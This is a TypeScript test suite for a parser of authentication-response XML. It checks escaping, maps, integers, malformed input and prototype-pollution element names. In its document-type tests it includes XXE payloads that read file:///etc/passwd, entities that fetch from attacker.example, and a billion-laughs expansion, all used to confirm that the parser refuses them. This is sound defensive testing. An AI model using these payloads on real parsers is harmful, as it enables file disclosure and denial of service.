import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ResponseFormatError } from '../response-format-error.ts';
import { errorFromXml, fromString, fromXml } from './initiate-auth-response.ts';
import * as sibling from './respond-to-auth-challenge-response.ts';

const session = (inner: string) => fromXml(`<r><Session>${inner}</Session></r>`).session;
const parameters = (inner: string) =>
  fromXml(`<r><ChallengeParameters>${inner}</ChallengeParameters></r>`).challengeParameters;
const expiresIn = (inner: string) =>
  fromXml(`<r><AuthenticationResult><ExpiresIn>${inner}</ExpiresIn></AuthenticationResult></r>`)
    .authenticationResult?.expiresIn;

function pathOf(read: () => unknown): string {
  try {
    read();
  } catch (error) {
    if (error instanceof ResponseFormatError) return error.path;
    throw error;
  }
  throw new Error('Nothing was thrown.');
}

describe('text is kept exactly', () => {
  test.each([
    ['', ''],
    ['a', 'a'],
    [' a ', ' a '],
    ['\n\t', '\n\t'],
    ['007', '007'],
    ['true', 'true'],
    ['1e3', '1e3'],
    ['a\r\nb\rc', 'a\nb\nc'],
    ['a&#13;b', 'a\rb'],
    ['&lt;&gt;&amp;&quot;&apos;', '<>&"\''],
    ['&amp;lt;', '&lt;'],
    ['&#65;&#x42;&#x1F600;&#0067;', 'AB😀C'],
    ['a<!-- no -->b', 'ab'],
    ['a<?no really?>b', 'ab'],
    ['<![CDATA[]]>', ''],
    ['<![CDATA[<a>&amp;</a>]]>', '<a>&amp;</a>'],
    ['a<![CDATA[b]]>c&amp;<![CDATA[d]]>', 'abc&d'],
    [']]&gt;', ']]>'],
    ['> is fine', '> is fine'],
    ['é😀\u00a0', 'é😀\u00a0'],
  ])('%j is %j', (inner, text) => {
    expect(session(inner)).toBe(text);
  });

  test('a self-closing element is empty', () => {
    expect(fromXml('<r><Session/></r>')).toEqual({ session: '' });
    expect(fromXml('<r><Session /></r>')).toEqual({ session: '' });
    expect(fromXml('<r/>')).toEqual({});
  });

  test('any text round-trips', () => {
    const escaped = (text: string) =>
      text.replace(/[<>&\r]/g, (character) => `&#${character.charCodeAt(0)};`);
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        expect(session(escaped(text))).toBe(text);
        fc.pre(!text.includes(']]>') && !text.includes('\r'));
        expect(session(`<![CDATA[${text}]]>`)).toBe(text);
      }),
    );
  });
});

describe('structures', () => {
  test('members are read by local name, and unknown elements are ignored', () => {
    const text = `<?xml version="1.0"?>
<!-- from a proxy -->
<x:InitiateAuthResponse xmlns:x="urn:x" a="&gt;">
  some text
  <x:Session Id="1">s</x:Session>
  <Unknown><Session>t</Session></Unknown>
  <Unknown/>
  <session>u</session>
</x:InitiateAuthResponse>
<!-- end -->
`;
    expect(fromString(text)).toEqual({ session: 's' });
    expect(fromXml(text)).toEqual({ session: 's' });
    expect(fromString(`\ufeff${text}`)).toEqual({ session: 's' });
  });

  test.each(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'])(
    'the element %s is like any other',
    (name) => {
      expect(fromXml(`<r><${name}/><${name}>x</${name}><Session>s</Session></r>`)).toEqual({
        session: 's',
      });
      expect(fromXml(`<${name}><Session>s</Session></${name}>`)).toEqual({ session: 's' });
      expect(
        fromXml(`<r><AvailableChallenges><${name}>A</${name}></AvailableChallenges></r>`),
      ).toEqual({ availableChallenges: ['A'] });
      expect(parameters(`<entry><key>${name}</key><value>x</value></entry>`)).toEqual(
        JSON.parse(`{"${name}":"x"}`),
      );
    },
  );

  test('RespondToAuthChallenge has no list of challenges', () => {
    const xml = '<r><AvailableChallenges>junk</AvailableChallenges><Session>s</Session></r>';
    expect(sibling.fromXml(xml)).toEqual({ session: 's' });
    expect(sibling.fromString(xml)).toEqual({ session: 's' });
  });
});

describe('lists and maps', () => {
  test('white space and comments between items are skipped', () => {
    expect(
      fromXml(
        '<r><AvailableChallenges>\n <member>A</member>\t<x>B</x><!-- c --></AvailableChallenges></r>',
      ),
    ).toEqual({ availableChallenges: ['A', 'B'] });
  });

  test('a map has entries of one key and one value', () => {
    expect(parameters('')).toEqual({});
    expect(
      parameters(`
        <entry><key>USERNAME</key><value>alice</value></entry>
        <entry><value> </value><key>b</key></entry>
      `),
    ).toEqual({ USERNAME: 'alice', b: ' ' });
  });

  test.each([
    '<entry/>',
    '<entry><key>a</key></entry>',
    '<entry><value>a</value></entry>',
    '<entry><key>a</key><key>b</key><value>c</value></entry>',
    '<entry><key>a</key><value>b</value><value>c</value></entry>',
    '<entry><key><b/></key><value>c</value></entry>',
    '<entry><key>a</key><value>b</value></entry><entry><key>a</key><value>c</value></entry>',
    'junk',
    'a=b<entry><key>a</key><value>b</value></entry>',
  ])('the map %s is an error', (inner) => {
    expect(pathOf(() => parameters(inner))).toBe('ChallengeParameters');
  });

  test('the error for a value with elements names its key', () => {
    expect(pathOf(() => parameters('<e><key>a</key><value><b/></value></e>'))).toBe(
      'ChallengeParameters.a',
    );
  });

  test.each([
    ['<AvailableChallenges>A</AvailableChallenges>', 'AvailableChallenges'],
    ['<AvailableChallenges><m/></AvailableChallenges>', 'AvailableChallenges.0'],
    ['<AvailableChallenges><m>A</m><m><b/></m></AvailableChallenges>', 'AvailableChallenges.1'],
    ['<ChallengeName/>', 'ChallengeName'],
    ['<Session>a<b/></Session>', 'Session'],
    ['<Session/><Session/>', ''],
    ['<AuthenticationResult><IdToken/><IdToken/></AuthenticationResult>', 'AuthenticationResult'],
  ])('%s is wrong at “%s”', (inner, path) => {
    expect(pathOf(() => fromXml(`<r>${inner}</r>`))).toBe(path);
  });
});

describe('integers', () => {
  test.each([
    ['0', 0],
    ['-0', 0],
    ['+7', 7],
    ['-7', -7],
    ['003600', 3600],
    ['9007199254740991', 9007199254740991],
    ['<![CDATA[36]]>00', 3600],
  ])('%s is %i', (inner, integer) => {
    expect(expiresIn(inner)).toBe(integer);
  });

  test.each(['', ' 1', '1 ', '1.0', '1e3', '0x10', '1_000', '+', '--1', '٣', '9007199254740992'])(
    '%j is not an integer',
    (inner) => {
      expect(pathOf(() => expiresIn(inner))).toBe('AuthenticationResult.ExpiresIn');
    },
  );
});

describe('malformed XML', () => {
  test.each([
    '',
    ' ',
    'text',
    '{}',
    '<',
    '<r',
    '<r>',
    '</r>',
    '<r></s>',
    '<r><a></r></a>',
    '<r/><r/>',
    '<r></r><s></s>',
    '<r/>text',
    '<r/>text<!-- c -->',
    'text<r/>',
    '<r></r>text',
    '<r/><![CDATA[x]]>',
    '<![CDATA[x]]>',
    '<!-- only -->',
    '<r a=b/>',
    '<r a="1" a="2"/>',
    '<1/>',
    '<r>&</r>',
    '<r>& </r>',
    '<r>&nbsp;</r>',
    '<r>&constructor;</r>',
    '<r>&toString;</r>',
    '<r>&#0;</r>',
    '<r>&#x110000;</r>',
    '<r>&#xD800;</r>',
    '<r>&#xFFFF;</r>',
    '<r>&#;</r>',
    '<r>&#x;</r>',
    '<r>&#99999999999999999999;</r>',
    '<r>]]></r>',
    '<r>\u0000</r>',
    '<r>\ud800</r>',
    '<r><!-- </r>',
    '<r><![CDATA[</r>',
    '<r></r>\u00a0',
  ])('%j', (text) => {
    expect(pathOf(() => fromString(text))).toBe('');
    expect(() => fromString(text)).toThrow('The response is no well-formed XML');
  });
});

describe('document types', () => {
  test('a document type without entities is skipped', () => {
    expect(fromString('<!DOCTYPE r><r><Session>s</Session></r>')).toEqual({ session: 's' });
    expect(
      fromString('<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r><Session>s</Session></r>'),
    ).toEqual({ session: 's' });
  });

  const laughs = Array.from(
    { length: 20 },
    (_, i) => `<!ENTITY l${i + 1} "&l${i};&l${i};&l${i};&l${i};&l${i};&l${i};&l${i};&l${i};">`,
  ).join('');

  test.each([
    '<!DOCTYPE r [<!ENTITY e "x">]><r><Session>&e;</Session></r>',
    '<!DOCTYPE r [<!ENTITY amp "x">]><r><Session>&amp;&e;</Session></r>',
    '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r><Session>&e;</Session></r>',
    '<!DOCTYPE r [<!ENTITY % e SYSTEM "http://attacker.example/">%e;]><r/>',
    `<!DOCTYPE r [<!ENTITY l0 "lol">${laughs}]><r><Session>&l20;</Session></r>`,
    '<!DOCTYPE r><!DOCTYPE r><r/>',
    '<!DOCTYPE r [<r/>',
  ])('entities are never expanded: %s', (text) => {
    expect(() => fromString(text)).toThrow(ResponseFormatError);
  });

  test('a DTD cannot change what the named references mean', () => {
    const text = '<!DOCTYPE r [<!ENTITY amp "x">]><r><Session>&amp;</Session></r>';
    expect(fromString(text)).toEqual({ session: '&' });
  });
});

test('deeply nested elements are an error, not a crash', () => {
  const text = `${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`;
  expect(() => fromXml(text)).toThrow(ResponseFormatError);
});

test('any text gives a value or a ResponseFormatError', () => {
  const pieces = fc.constantFrom(
    ...['<r>', '</r>', '<r/>', '<Session>', '</Session>', '<Session/>', '<ChallengeParameters>'],
    ...['</ChallengeParameters>', '<entry>', '</entry>', '<key>', '</key>', '<value>', '</value>'],
    ...['<AvailableChallenges>', '</AvailableChallenges>', '<m>', '</m>', '&amp;', '&#x41;', '&e;'],
    ...[
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '<?x',
      '?>',
      '<!DOCTYPE r',
      '[',
      ']>',
      '<!ENTITY e "x">',
    ],
    ...['text', ' ', '\n', '"', "'", '=', '<__proto__>', '</__proto__>', '<constructor/>', '<:@>'],
    ...[
      '<#text>',
      '<a:b:c/>',
      '<?xml version="1.0"?>',
      '<?constructor __proto__="1"?>',
      '<a b="c">',
    ],
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.array(pieces, { maxLength: 20 }).map((parts) => parts.join('')),
        fc.array(pieces, { maxLength: 20 }).map((parts) => `<r>${parts.join('')}</r>`),
      ),
      (text) => {
        for (const read of [fromString, sibling.fromXml]) {
          try {
            expect(typeof read(text)).toBe('object');
          } catch (error) {
            expect(error).toBeInstanceOf(ResponseFormatError);
          }
        }
      },
    ),
    { numRuns: 2000 },
  );
});

describe('errors', () => {
  test('a modeled error is parsed, an unknown one is kept as text', () => {
    const xml = '<Error><message>m</message><reasonCode>rc</reasonCode></Error>';
    expect(errorFromXml('InvalidParameterException', xml)).toEqual({
      tag: 'InvalidParameterException',
      value: { message: 'm', reasonCode: 'rc' },
    });
    expect(sibling.errorFromXml('CodeMismatchException', xml)).toEqual({
      tag: 'CodeMismatchException',
      value: { message: 'm' },
    });
    for (const code of ['CodeMismatchException', '__proto__', 'constructor', '']) {
      expect(errorFromXml(code, '<not xml')).toEqual({
        tag: 'Unknown_operation_error',
        code,
        message: '<not xml',
      });
    }
    expect(() => errorFromXml('NotAuthorizedException', '<not xml')).toThrow(ResponseFormatError);
  });
});
